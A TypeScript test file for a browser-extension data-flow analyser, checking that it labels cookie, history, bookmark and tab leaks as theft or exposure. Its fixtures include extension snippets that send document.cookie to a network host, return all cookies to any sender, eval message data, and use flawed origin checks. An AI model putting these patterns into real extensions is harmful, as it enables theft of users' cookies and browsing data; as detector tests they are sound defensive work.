import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../../testing/flows-between.ts';

describe('flows over ports', () => {
  const content = `
    const port = chrome.runtime.connect({ name: 'jar' });
    port.postMessage({ type: 'typed', text: document.cookie });
    port.onMessage.addListener((m) => { if (m.type === 'list') window.postMessage(m.list, '*') });`;

  it('lead both ways', () => {
    const worker = `
      chrome.runtime.onConnect.addListener((port) => {
        if (port.name !== 'jar') return;
        port.onMessage.addListener((m) => { if (m.type === 'typed') fetch('https://in.a.dev?' + m.text) });
        chrome.history.search({ text: '' }, (list) => port.postMessage({ type: 'list', list }));
      });`;
    assert.deepEqual(flowsBetween({ 'content.js': content, 'worker.js': worker }), [
      'cookies content.js > network worker.js (theft, high)',
      'history worker.js > page-message content.js (exposure, high)',
    ]);
  });

  it('are told apart by the name of the port', () => {
    const worker = `
      chrome.runtime.onConnect.addListener((port) => {
        if (port.name === 'other') port.onMessage.addListener(({ text }) => fetch('https://in.a.dev?' + text));
      });`;
    const flows = flowsBetween({ 'content.js': content, 'worker.js': worker });
    assert.ok(!flows.join().includes('cookies'), flows.join('\n'));
    assert.ok(flows.includes('internal-message worker.js > network worker.js (theft, low)'));
  });

  it('lead through ports that are kept', () => {
    const worker = `
      let open;
      chrome.runtime.onConnect.addListener((port) => { open = port });
      chrome.bookmarks.getTree((tree) => open.postMessage({ type: 'list', list: tree }));`;
    assert.ok(
      flowsBetween({ 'content.js': content, 'worker.js': worker }).includes(
        'bookmarks worker.js > page-message content.js (exposure, high)',
      ),
    );
  });
});

describe('flows between a page and a content script', () => {
  it('take attributes that are watched for the word of the page', () => {
    const content = `new MutationObserver(() => chrome.storage.local.set({ name: box.getAttribute('data-name') })).observe(box, {})`;
    assert.deepEqual(flowsBetween({ 'content.js': content }), [
      'page-event content.js > extension-storage content.js (exposure, high)',
    ]);
    assert.deepEqual(flowsBetween({ 'worker.js': content }), []);
  });

  it('are less sure where the origin is compared', () => {
    const act = 'chrome.storage.local.set({ name: e.data.name })';
    const flow = (code: string): string[] =>
      flowsBetween({ 'content.js': `addEventListener('message', (e) => { ${code} })` });
    for (const code of [
      `if (e.origin !== 'https://good.a.dev') return; ${act}`,
      `if (e.origin === 'https://good.a.dev' && e.data.name) ${act}`,
    ])
      assert.deepEqual(flow(code), [
        'page-message content.js > extension-storage content.js (exposure, low)',
      ]);
    for (const code of [
      `if (e.source !== window) return; ${act}`,
      `if (e.origin.includes('good.a.dev')) ${act}`,
      `if (e.origin !== 'https://good.a.dev') log(1); ${act}`,
    ])
      assert.deepEqual(flow(code), [
        'page-message content.js > extension-storage content.js (exposure, high)',
      ]);
  });

  it('see private data that is left in attributes', () => {
    const files = {
      'worker.js': `chrome.runtime.onMessage.addListener((m, s, reply) => { chrome.cookies.getAll({}, reply); return true })`,
      'content.js': `chrome.runtime.sendMessage('jar', (jar) => document.body.setAttribute('data-jar', JSON.stringify(jar)))`,
    };
    assert.deepEqual(flowsBetween(files), [
      'cookies worker.js > page-message content.js (exposure, medium)',
    ]);
  });

  it('carry custom events into the background', () => {
    const files = {
      'content.js': `document.addEventListener('my-app-call', (e) => chrome.runtime.sendMessage({ type: 'go', url: e.detail.url }))`,
      'worker.js': `chrome.runtime.onMessage.addListener((m) => { if (m.type === 'go') chrome.history.addUrl({ url: m.url }) })`,
    };
    assert.deepEqual(flowsBetween(files), [
      'page-event content.js > history-write worker.js (exposure, high)',
    ]);
  });

  it('are no affair of windows that no page gets at', () => {
    const files = {
      'popup.html': '<script src="popup.js"></script>',
      'popup.js': `addEventListener('message', (e) => { out.innerHTML = e.data })`,
    };
    assert.deepEqual(flowsBetween(files), [
      'page-message popup.js > dom-html popup.js (exposure, low)',
    ]);
    const open = {
      web_accessible_resources: [{ resources: ['pop*.html'], matches: ['<all_urls>'] }],
    };
    assert.deepEqual(flowsBetween(files, open), [
      'page-message popup.js > dom-html popup.js (exposure, high)',
    ]);
  });
});

describe('flows from other extensions and pages', () => {
  const worker = `chrome.runtime.onMessageExternal.addListener((m, s, reply) => { chrome.management.uninstall(m.id) })`;

  it('start at external messages', () => {
    assert.deepEqual(flowsBetween({ 'worker.js': worker }), [
      'external-message worker.js > management worker.js (exposure, high)',
    ]);
  });

  it('end where the manifest lets nobody send', () => {
    assert.deepEqual(
      flowsBetween({ 'worker.js': worker }, { externally_connectable: { matches: [], ids: [] } }),
      [],
    );
  });

  it('reach content scripts through the background', () => {
    const files = {
      'worker.js': `chrome.runtime.onConnectExternal.addListener((port) => port.onMessage.addListener((m) => chrome.tabs.sendMessage(3, { show: m.html })))`,
      'content.js': `chrome.runtime.onMessage.addListener(({ show }) => { box.innerHTML = show })`,
    };
    assert.deepEqual(flowsBetween(files), [
      'external-message worker.js > dom-html content.js (exposure, high)',
    ]);
  });
});

describe('answers to whoever asks', () => {
  const answer = (test: string): Record<string, string> => ({
    'content.js': '',
    'worker.js': `chrome.runtime.onMessage.addListener((m, sender, reply) => { ${test}; return true })`,
  });
  const exposed = ['cookies worker.js > external-response worker.js (exposure, low)'];
  const give = 'chrome.cookies.getAll({}, (jar) => reply(jar))';

  it('are exposures when they hold private data', () => {
    assert.deepEqual(flowsBetween(answer(give)), exposed);
    assert.deepEqual(flowsBetween({ 'worker.js': answer(give)['worker.js']! }), []);
  });

  it('are none where the sender is known', () => {
    for (const test of [
      `if (sender.url === 'https://good.a.dev/') ${give}`,
      `if (sender.origin !== 'https://good.a.dev') return; ${give}`,
      `if (sender.url.startsWith('https://good.a.dev/')) ${give}`,
      `if (['https://good.a.dev'].includes(sender.origin)) { ${give} }`,
      `if (new URL(sender.tab.url).hostname === 'good.a.dev') { ${give} }`,
      `if (sender.tab) return; ${give}`,
    ])
      assert.deepEqual(flowsBetween(answer(test)), [], test);
  });

  it('are some where the test lets others pass', () => {
    for (const test of [
      `if (sender.url.startsWith('https://good.a.dev')) ${give}`,
      `if (sender.url.includes('good.a.dev')) ${give}`,
      `if (sender.id === chrome.runtime.id) ${give}`,
      `if (sender.tab) ${give}`,
      `if (sender.url !== 'https://good.a.dev/') ${give}`,
    ])
      assert.deepEqual(flowsBetween(answer(test)), exposed, test);
  });
});

describe('functions that are injected', () => {
  it('are given their arguments', () => {
    const worker = `
      fetch('https://a.dev').then((r) => r.text()).then((html) =>
        chrome.scripting.executeScript({ target: { tabId: 4 }, func: (text) => { document.body.innerHTML = text }, args: [html] }));`;
    assert.deepEqual(flowsBetween({ 'worker.js': worker }), [
      'network-response worker.js > dom-html worker.js (remote-control, high)',
    ]);
  });

  it('are no code made of data when only their file is chosen', () => {
    const worker = `chrome.runtime.onMessageExternal.addListener((m) => chrome.tabs.executeScript({ file: 'a-' + m.name + '.js' }))`;
    assert.deepEqual(flowsBetween({ 'worker.js': worker }), []);
  });
});

describe('messages to workers', () => {
  const listening = `self.onmessage = ({ data }) => eval(data.code)`;

  it('are those of the extension where it starts the worker', () => {
    const popup = { 'popup.html': '<script src="popup.js"></script>' };
    assert.deepEqual(
      flowsBetween({ ...popup, 'popup.js': `new Worker('unpack.js')`, 'unpack.js': listening }),
      [],
    );
    assert.deepEqual(
      flowsBetween({
        ...popup,
        'popup.js': `fetch('./unpack.js')`,
        'unpack.js': `addEventListener('message', ({ data }) => importScripts(data.file))`,
      }),
      [],
    );
  });

  it('are those of pages where the script runs in these too', () => {
    const flows = flowsBetween({
      'content.js': listening,
      'worker.js': `new Worker('content.js')`,
    });
    assert.deepEqual(flows, [
      'page-message content.js > code-execution content.js (exposure, high)',
    ]);
  });
});

describe('addresses that another script asks for', () => {
  const icon = `globalThis.showIcon = (address) => { new Image().src = address }`;
  const tabs = (call: string): string =>
    `importScripts('icon.js'); chrome.tabs.query({}, ([tab]) => showIcon(${call}))`;

  it('say less where they are the data as it is', () => {
    const flows = (call: string): readonly string[] =>
      flowsBetween({ 'worker.js': tabs(call), 'icon.js': icon });
    assert.deepEqual(flows('tab.url'), ['tabs worker.js > network icon.js (theft, low)']);
    assert.deepEqual(flows(`server + '/seen?' + tab.url`), [
      'tabs worker.js > network icon.js (theft, high)',
    ]);
  });
});
